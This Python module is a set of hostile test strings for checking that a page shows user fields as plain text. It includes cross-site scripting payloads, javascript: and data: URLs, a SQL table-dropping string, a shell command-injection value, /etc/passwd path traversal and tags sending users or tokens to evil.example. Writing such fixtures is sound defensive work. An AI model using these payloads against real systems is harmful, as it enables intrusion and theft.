"""Strings that would do something if the page read them as anything but text. In every field they are shown literally.

Each that tries to run a script sets `window.hostile`, so a test can tell that none did.
"""

from types import MappingProxyType
from typing import Final

MARK: Final = "window.hostile=1"

_MARKUP: Final = {
    "image": f"<img src=x onerror={MARK}>",
    "image with quotes": f'<img src="x" onerror="{MARK}">',
    "script": f"<script>{MARK}</script>",
    "script in capitals": f"<ScRiPt>{MARK}</sCrIpT>",
    "script left open": f"<script>{MARK}//",
    "out of an attribute": f'"><svg/onload={MARK}>',
    "out of an attribute with one quote": f"' autofocus onfocus={MARK} x='",
    "out of an unquoted attribute": f"x onmouseover={MARK}",
    "out of a text area": f"</textarea><script>{MARK}</script>",
    "out of a title": f"</title><script>{MARK}</script>",
    "out of a comment": f"--><script>{MARK}</script><!--",
    "out of a style": f"</style><script>{MARK}</script>",
    "frame": f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    "form": '<form action="https://evil.example/"><input name=token><button>Send</button></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "picture from elsewhere": '<img src="https://evil.example/seen.png">',
    "mutation": f'<math><mtext><table><mglyph><style><img title="--&gt;&lt;img src onerror={MARK}&gt;">',
    "bold": "<b>bold</b>",
    "unknown tag": "<x-y>unknown</x-y>",
    "processing instruction": f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e '{MARK}'>]>&e;",
    "CDATA": f"<![CDATA[<script>{MARK}</script>]]>",
    "entities": "&lt;b&gt; &amp;amp; &#x41; &quot; &nbsp;|",
    "entities that come to a tag": f"&lt;img src=x onerror={MARK}&gt;",
}
_CODE: Final = {
    "address that is a script": f"javascript:{MARK}",
    "address that is a script, in disguise": f"\tJaVa\nScRiPt:{MARK}//",
    "address that is a document": f"data:text/html,<script>opener.{MARK}</script>",
    "braces": "{{constructor.constructor('return window')()}} ${7*7} #{7*7} {%7*7%} <%=7*7%>",
    "backquotes": f"`${{{MARK}}}`",
    "quotes": "'\"`\\'\\\"",
    "style": f"x;background:url(https://evil.example/seen.png);width:expression({MARK})",
    "address in a style": f'url("javascript:{MARK}")',
    "prototype": "__proto__",
    "constructor": "constructor",
    "property of every object": "hasOwnProperty",
    "to string": "toString",
    "format": "%s %d %n $1 $& $` \\1 {0}",
    "path": "../../../../etc/passwd",
    "query": "?account=default&status=X#/clock",
    "SQL": "'; DROP TABLE messages; --",
    "shell": "$(touch /tmp/hostile) `id` ; | & > 'x' \"y\" \\",
    "formula": '=HYPERLINK("https://evil.example/","x")',
}
_LETTERS: Final = {
    "right to left override": "\u202e\u2066evil\u2069\u202c.exe",
    "Arabic and Hebrew": "\u0645\u0631\u062d\u0628\u0627 (\u05e9\u05dc\u05d5\u05dd) 123",
    "zero width": "zero\u200bwidth\u200c\u200d\u2060\ufeffhere",
    "nothing to see": "\u3164\u00ad\u200b",
    "only spaces": "   \u00a0\u2003   ",
    "spaces around": "  two  spaces  ",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f44d\U0001f3fd \U0001f1f2\U0001f1f9",
    "combining": "Z" + "\u0301\u0302\u0303\u0330\u0331\u0332" * 10 + "algo",
    "controls": "a\u0001b\u0007c\u0008d\u001be[31m\u007f\u0085f",
    "NUL": "before\u0000after",
    "line ends": "one\ntwo\r\nthree\rfour\u2028five\u2029six\u000bseven\u000ceight",
    "tab": "a\tb",
    "end of all planes": "\ufffe\uffff\U0010ffff",
    "replacement": "\ufffd",
    "Turkish": "\u0130\u0131 \u00df \ufb01",
    "composed and not": "\u00e9 e\u0301",
    "long word": "W" * 250,
    "long word without a break": "\u5b57" * 120,
    "many lines": "\n".join(str(line) for line in range(60)),
    "empty": "",
    "null": "null",
    "number": "-0",
    "not a number": "NaN",
    "date": "2026-02-30T25:61:61Z",
}

HOSTILE: Final = MappingProxyType({**_MARKUP, **_CODE, **_LETTERS})
"""By a name for people; each fits where the service takes 255 characters."""

SENDABLE: Final = MappingProxyType({name: text for name, text in HOSTILE.items() if text})
"""Those that a message can say: the service takes no text that says nothing."""

SURROGATES: Final = MappingProxyType({"lone surrogate": '"\\ud83d"', "surrogates the wrong way": '"\\ude00\\ud83d"'})
"""As they stand in JSON, since no text of Python's can be sent as them."""
